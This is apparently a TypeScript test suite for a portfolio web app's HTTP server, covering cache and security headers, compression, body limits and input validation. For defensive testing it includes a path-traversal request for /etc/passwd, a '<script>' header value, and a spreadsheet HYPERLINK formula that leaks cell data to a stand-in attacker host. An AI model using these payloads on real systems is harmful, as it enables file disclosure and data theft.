import { once } from 'node:events';
import { Agent, type IncomingMessage, request } from 'node:http';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliCompressSync } from 'node:zlib';
import { readConfig } from '@evenkeel/platform/config';
import { createLogger } from '@evenkeel/platform/logging';
import type { Problem } from '@evenkeel/contracts/shared/problem';
import { ApiClient, signUp } from '../../../test/support/api';
import { ROOT } from '../../../test/support/node-program';
import { CASH_IN, personWithPortfolio } from './person';
import { startApi } from '../src/start-api';
import { startTestApi, type TestApi } from './running-api';

const INDEX = '<!doctype html><title>Evenkeel</title>';
const CODE = 'const evenkeel = "level"; '.repeat(200);
const COMPRESSED = brotliCompressSync(CODE);
let api: TestApi;
let webDir: string;
beforeAll(async () => {
  webDir = mkdtempSync(join(tmpdir(), 'evenkeel-web-'));
  mkdirSync(join(webDir, 'static'));
  writeFileSync(join(webDir, 'index.html'), INDEX);
  writeFileSync(join(webDir, 'theme.js'), '"theme"');
  writeFileSync(join(webDir, 'static', 'app-1a2b.js'), '"app"');
  writeFileSync(join(webDir, 'static', 'code-3c4d.js'), CODE);
  writeFileSync(join(webDir, 'static', 'code-3c4d.js.br'), COMPRESSED);
  api = await startTestApi({ webDir });
});
afterAll(async () => {
  await api.stop();
  rmSync(webDir, { recursive: true });
});

test.each(['/', '/transactions', '/portfolio/7/rebalance?tab=actions'])(
  '%s is the web app, never kept by a cache',
  async (path) => {
    const answer = await fetch(api.baseUrl + path);
    expect({
      status: answer.status,
      cache: answer.headers.get('cache-control'),
      body: await answer.text(),
    }).toEqual({ status: 200, cache: 'no-store', body: INDEX });
  },
);

test('hashed files are kept for ever, a missing one is not the web app', async () => {
  const asset = await fetch(`${api.baseUrl}/static/app-1a2b.js`);
  expect([asset.status, asset.headers.get('cache-control'), await asset.text()]).toEqual([
    200,
    'public, max-age=31536000, immutable',
    '"app"',
  ]);
  expect((await fetch(`${api.baseUrl}/theme.js`)).status).toBe(200);
  expect((await fetch(`${api.baseUrl}/static/gone.js`)).status).toBe(404);
  expect((await fetch(`${api.baseUrl}/static/%E0%A4%A.js`)).status).toBe(400);
  expect((await fetch(`${api.baseUrl}/..%2f..%2fetc/passwd`)).headers.get('content-type')).toMatch(
    /html|json/,
  );
});

test.each([
  ['br, gzip', 'br', COMPRESSED.length],
  ['gzip', 'gzip', null],
  ['identity', null, CODE.length],
])(
  'a file that the build compressed is sent so to who takes it: %s (WEB-97)',
  async (accepted, encoding, length) => {
    const answer = await fetch(`${api.baseUrl}/static/code-3c4d.js`, {
      headers: { 'accept-encoding': accepted },
    });
    const { headers } = answer;
    expect(await answer.text()).toBe(CODE);
    expect(headers.get('content-encoding')).toBe(encoding);
    expect(headers.get('content-length')).toBe(length === null ? null : String(length));
    expect(headers.get('vary')).toMatch(/accept-encoding/i);
    expect(headers.get('content-type')).toMatch(/^text\/javascript/);
    expect(headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
  },
);

test('pages may run our own scripts only', async () => {
  const { headers } = await fetch(api.baseUrl);
  expect(headers.get('content-security-policy')).toBe(
    "default-src 'self';script-src 'self';connect-src 'self';img-src 'self' data: blob:;style-src 'self' 'unsafe-inline';font-src 'self';object-src 'none';base-uri 'self';form-action 'self';frame-ancestors 'none'",
  );
  expect([
    headers.get('x-content-type-options'),
    headers.get('x-powered-by'),
    headers.get('strict-transport-security'),
  ]).toEqual(['nosniff', null, null]);
});

test('every answer carries the headers that docs/security.md lists', async () => {
  const page = readFileSync(join(ROOT, 'docs/security.md'), 'utf8');
  const listed = [...page.matchAll(/^\| `([a-z-]+)` +\| `([^`]+)` +\|/gm)].map(
    ([, name, value]) => [name, value] as const,
  );
  expect(listed.length).toBeGreaterThan(10);
  for (const path of ['/', '/health/live', '/api/portfolios', '/static/gone.js']) {
    const { headers } = await fetch(api.baseUrl + path);
    expect(listed.map(([name = '']) => [name, headers.get(name)])).toEqual(listed);
  }
});

test('an idle connection is kept for longer than proxies keep theirs', async () => {
  expect((await fetch(`${api.baseUrl}/health/live`)).headers.get('keep-alive')).toBe('timeout=75');
});

test('an api that ends lets a request come to its end, and does not wait for its connection', async () => {
  const env = {
    ...process.env,
    DATABASE_URL: api.databaseUrl,
    DATA_DIR: api.dataDir,
    REDIS_URL: '',
    EVENTSTORE_URL: '',
    PORT: '0',
    HOST: '127.0.0.1',
  };
  const ending = await startApi(readConfig(env), createLogger({ level: 'error', part: 'api' }));
  const agent = new Agent({ keepAlive: true });
  const asked = request(`${ending.url}/api/auth/signin`, {
    method: 'POST',
    agent,
    headers: { 'content-type': 'application/json', 'content-length': '2', expect: '100-continue' },
  });
  asked.flushHeaders();
  await once(asked, 'continue');
  const closing = ending.close();
  asked.end('{}');
  const [answer] = (await once(asked, 'response')) as [IncomingMessage];
  expect(answer.statusCode).toBe(400);
  answer.resume();
  await closing;
  agent.destroy();
});

test('health is told without a token', async () => {
  expect(await (await fetch(`${api.baseUrl}/health/live`)).json()).toEqual({ status: 'live' });
  const ready = await fetch(`${api.baseUrl}/health/ready`);
  expect({ status: ready.status, body: await ready.json() }).toMatchObject({
    status: 200,
    body: { status: 'ready' },
  });
});

test('an unknown call is a problem, not a page', async () => {
  const { api: client } = await signUp(api.baseUrl);
  const { status, body } = await client.get('/api/unknown');
  expect({ status, body }).toMatchObject({
    status: 404,
    body: { statusCode: 404, error: 'Not Found' },
  });
});

test('a request keeps a harmless name and gets one otherwise', async () => {
  const named = await fetch(`${api.baseUrl}/health/live`, {
    headers: { 'x-request-id': 'order-12345' },
  });
  expect(named.headers.get('x-request-id')).toBe('order-12345');
  const unnamed = await fetch(`${api.baseUrl}/health/live`, {
    headers: { 'x-request-id': '<script>' },
  });
  expect(unnamed.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
});

test('bodies: 1 MB everywhere, 64 MB where files are imported, and strangers cannot send them', async () => {
  const { api: client } = await signUp(api.baseUrl);
  const big = { name: 'x'.repeat(1_200_000) };
  expect(await client.post('/api/portfolios', big)).toMatchObject({
    status: 413,
    body: { statusCode: 413, error: 'Payload Too Large' },
  });
  const file = {
    fileName: 'a.csv',
    format: 'csv',
    content: `date,ticker,close\n${'2024-01-02,VTI,-1\n'.repeat(100_000)}`,
    dryRun: true,
  };
  expect((await client.post('/api/quotes/imports', file)).status).toBe(422);
  const stranger = await fetch(`${api.baseUrl}/api/quotes/imports`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{}',
  });
  expect(stranger.status).toBe(401);
});

test('lists and what is wrong in a file are compressed, the answer to a write is not', async () => {
  const person = await personWithPortfolio(api.baseUrl);
  const { id } = await person.addAccount();
  const headersOf = (path: string) => person.api.get(path).then(({ headers }) => headers);
  const written = await person.record({
    ...CASH_IN(id, '10'),
    transactionNotes: 'long '.repeat(300).trim(),
  });
  const wrong = await person.import(
    `account,type,datetime,ticker,quantity,price,fee,amount,notes\n${'Broker,buy,never,VTI,1,1,0,1,\n'.repeat(100)}`,
  );
  const listed = await headersOf(person.path('/transactions'));
  expect([written, wrong].map(({ status }) => status)).toEqual([201, 422]);
  expect(
    [written.headers, wrong.headers, listed].map(
      (headers) => headers.get('content-encoding') !== null,
    ),
  ).toEqual([false, true, true]);
});

test('what is not JSON is refused as such', async () => {
  const { api: client } = await signUp(api.baseUrl);
  const answer = await fetch(`${api.baseUrl}/api/portfolios`, {
    method: 'POST',
    headers: { authorization: `Bearer ${client.token}`, 'content-type': 'application/json' },
    body: '{"name":',
  });
  expect({ status: answer.status, body: await answer.json() }).toEqual({
    status: 400,
    body: { statusCode: 400, error: 'Bad Request', message: 'The body is not valid JSON' },
  });
});

test('what the api says is kept by no cache, errors included', async () => {
  const { api: client } = await signUp(api.baseUrl);
  const answers = [
    await client.get('/api/portfolios'),
    await client.post('/api/portfolios', {}),
    await client.get('/api/unknown'),
    await new ApiClient(api.baseUrl).get('/api/auth/config'),
    await new ApiClient(api.baseUrl).get('/api/portfolios'),
  ];
  expect(answers.map(({ status, headers }) => [status, headers.get('cache-control')])).toEqual(
    [200, 400, 404, 200, 401].map((status) => [status, 'no-store']),
  );
});

test('a parameter that a route does not know is refused at every address', async () => {
  const { api: client } = await signUp(api.baseUrl);
  const routes = api.routes.filter((route) => route.includes(' /api/'));
  const passedOver = [];
  for (const route of routes) {
    const [method = '', pattern = ''] = route.split(' ');
    const path = pattern.replace(/:\w+/g, crypto.randomUUID());
    const { status, body } = await client.call<Problem>(method, `${path}?colour=blue`);
    if (status !== 400 || body.fields?.[0]?.field !== 'colour') passedOver.push(route);
  }
  expect(routes.length).toBeGreaterThan(50);
  expect(passedOver).toEqual([]);
});

test('a note that a spreadsheet would run is exported as text, and imported as it was', async () => {
  const [person, other] = [
    await personWithPortfolio(api.baseUrl),
    await personWithPortfolio(api.baseUrl),
  ];
  const { id } = await person.addAccount();
  await other.addAccount();
  const transactionNotes = '=HYPERLINK("https://thief.example/"&A1)';
  await person.record({ ...CASH_IN(id, '10'), transactionNotes });
  const exported = await person.api.get<string>(person.path('/transactions/export'));
  expect(exported.body).toContain(`"'=HYPERLINK`);
  expect((await other.import(exported.body)).body).toMatchObject({ recorded: 1, errors: [] });
  const { body } = await other.api.get<object[]>(other.path('/transactions'));
  expect(body).toMatchObject([{ transactionNotes }]);
});
